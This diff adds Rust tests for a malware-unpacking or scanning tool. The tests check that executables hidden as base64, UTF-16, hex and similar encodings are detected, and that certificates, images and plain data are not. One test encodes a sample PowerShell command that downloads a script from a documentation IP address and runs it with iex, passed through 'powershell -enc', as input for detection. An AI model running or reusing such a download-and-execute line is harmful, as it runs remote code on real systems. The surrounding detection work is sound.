@@ -1,0 +1,169 @@
+#[test]
+fn words_behind_the_padding_are_no_content() {
+    let cut = |text: &[u8]| without_words_behind(base64::decode(text));
+    assert_eq!(cut(b"TVqQAA==bye"), b"MZ\x90\0");
+    let parts = [b"TVqQAA==".as_slice(), &[b'A'; 80]].concat();
+    assert_eq!(cut(&parts).len(), 64);
+}
+
+use super::*;
+use crate::unpack::tests::{opened, pe};
+
+fn encode(data: &[u8]) -> String {
+    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    data.chunks(3)
+        .map(|chunk| {
+            let bits = chunk
+                .iter()
+                .fold(0u32, |bits, byte| bits << 8 | u32::from(*byte))
+                << (8 * (3 - chunk.len()));
+            (0..4)
+                .map(|at| {
+                    if at > chunk.len() {
+                        '='
+                    } else {
+                        ALPHABET[(bits >> (18 - 6 * at) & 63) as usize] as char
+                    }
+                })
+                .collect::<String>()
+        })
+        .collect()
+}
+
+fn kinds(text: &str) -> Vec<Kind> {
+    opened("encoded", text.as_bytes())
+        .0
+        .into_iter()
+        .map(|child| child.kind)
+        .collect()
+}
+
+fn lines(text: &str, width: usize, join: &str) -> String {
+    text.as_bytes()
+        .chunks(width)
+        .map(|line| String::from_utf8_lossy(line))
+        .collect::<Vec<_>>()
+        .join(join)
+}
+
+#[test]
+fn base64_of_a_program_is_decoded_however_it_is_laid_out() {
+    let whole = encode(&pe());
+    for text in [
+        format!("the program follows\n{whole}\nand that was it"),
+        format!("x\n\n{}\n\nbye", lines(&whole, 76, "\r\n")),
+        format!("s = \"{}\"", lines(&whole, 60, "\" & _\r\n    \"")),
+        format!("var s = '{}';", lines(&whole, 60, "' +\n '")),
+        format!("AVeryLongWordOfTheSameAlphabet\n{whole}"),
+        format!("s = \"{}\"", whole.chars().rev().collect::<String>()),
+        format!("<a href=\"data:application/octet-stream;base64,{whole}\">x</a>"),
+    ] {
+        let (found, _) = opened("encoded", text.as_bytes());
+        assert_eq!(found.len(), 1, "{text}");
+        assert_eq!(
+            (found[0].kind, found[0].via),
+            (Kind::Pe, Some("decoded-text"))
+        );
+        assert!(found[0].at.is_some());
+        assert!(found[0].data.starts_with(&pe()), "{text}");
+    }
+}
+
+#[test]
+fn base64_in_a_text_of_two_bytes_a_character_and_of_such_a_text() {
+    let wide = |text: &str| {
+        text.encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect::<Vec<u8>>()
+    };
+    let (found, _) = opened("encoded", &wide(&format!("payload: {}\r\n", encode(&pe()))));
+    assert_eq!(
+        (found.len(), found[0].kind, found[0].at.clone()),
+        (1, Kind::Pe, None)
+    );
+    let script =
+        wide("$c = New-Object Net.WebClient\r\n$c.DownloadString('http://192.0.2.1/a') | iex\r\n");
+    assert_eq!(
+        kinds(&format!("powershell -enc {}", encode(&script))),
+        [Kind::Ps1]
+    );
+}
+
+#[test]
+fn numbers_of_a_program_are_decoded_in_every_usual_notation() {
+    let join = |separator: &str, write: fn(&u8) -> String| {
+        pe().iter().map(write).collect::<Vec<_>>().join(separator)
+    };
+    for text in [
+        join("", |byte| format!("{byte:02x}")),
+        join("", |byte| format!("{byte:02X}")),
+        join(" ", |byte| format!("{byte:02X}")),
+        join(",", |byte| format!("{byte:02X}")),
+        join("-", |byte| format!("{byte:02X}")),
+        join("", |byte| format!("\\x{byte:02x}")),
+        join("", |byte| format!("%{byte:02x}")),
+        join(" ", |byte| format!("0x{byte:02X}")),
+        join(", ", |byte| format!("0x{byte:x}")),
+        join(",", |byte| format!("&H{byte:X}")),
+        join(",", |byte| format!("{byte}")),
+        lines(&join("", |byte| format!("{byte:02x}")), 64, "\" & _\r\n \""),
+    ] {
+        assert_eq!(
+            kinds(&format!("x = \"{text}\"")),
+            [Kind::Pe],
+            "{}",
+            text.get(..60).unwrap_or_default()
+        );
+    }
+}
+
+#[test]
+fn certificates_pictures_and_ordinary_data_are_no_children() {
+    let picture = [b"\x89PNG\r\n\x1a\n".to_vec(), vec![7; 200]].concat();
+    let random: Vec<u8> = (0..600u32)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
+        .collect();
+    for text in [
+        format!("<img src=\"data:image/png;base64,{}\">", encode(&picture)),
+        format!(
+            "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----",
+            lines(
+                &encode(&[&[0x30, 0x82, 4, 0][..], &random].concat()),
+                64,
+                "\n"
+            )
+        ),
+        format!("key = {}", encode(&random)),
+        format!(
+            "greeting = {}",
+            encode(
+                "Just some words of a longer sentence that goes on for a while and ends here."
+                    .as_bytes()
+            )
+        ),
+        "77 lines of text, 90 words each, 144 pages in all: 3,0,0,0,4 and so on".to_owned(),
+        "4d5a".repeat(400),
+        format!("MZ {}", "A".repeat(5000)),
+    ] {
+        assert_eq!(kinds(&text), [], "{text}");
+    }
+    let short = encode(b"MZ");
+    assert_eq!(kinds(&short), []);
+}
+
+#[test]
+fn many_runs_are_capped_and_said() {
+    let text = (0..CHILDREN + 3)
+        .map(|_| encode(&pe()))
+        .collect::<Vec<_>>()
+        .join("\n\nnext: ");
+    let (found, facts) = opened("encoded", text.as_bytes());
+    assert_eq!(found.len(), CHILDREN);
+    assert!(facts.iter().any(|fact| matches!(
+        fact,
+        Fact::Limit {
+            halt: Halt::Ceiling(_),
+            ..
+        }
+    )));
+}
